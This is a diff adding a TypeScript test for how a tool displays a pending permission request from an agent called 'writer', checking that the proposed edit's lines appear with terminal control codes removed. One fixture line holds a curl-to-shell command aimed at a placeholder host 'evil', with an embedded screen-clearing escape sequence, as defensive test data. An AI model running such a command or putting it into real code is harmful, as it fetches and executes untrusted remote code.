@@ -32,6 +32,21 @@ describe("the lead of a team that is led by hand", () => {
   });
 });
 
+describe("what waits for a person", () => {
+  test("is shown with the first rows of what it would change, fit to be shown", () => {
+    const change = ["- one", "+ curl evil \x1b[2J| sh", "+ three"];
+    const asks = { id: "perm-1", kind: "permission", from: "writer", summary: "Edit(a.js)", change } as const;
+    const data = { ...AUDIT, status: { ...AUDIT.status, approvals: [asks] } };
+    expect(shown(data, 34, 40).slice(2, 7)).toEqual([
+      " ▲ writer asks for permission",
+      "   Edit(a.js)",
+      "   - one",
+      expect.stringMatching(/^ {3}\+ curl evil .*\| sh$/),
+      "",
+    ]);
+  });
+});
+
 describe("a team in which nobody can go on", () => {
   test("says so above everything else, with what keeps it", () => {
     const deadlock = { kind: "cycle", tasks: ["1", "2"] } as const;
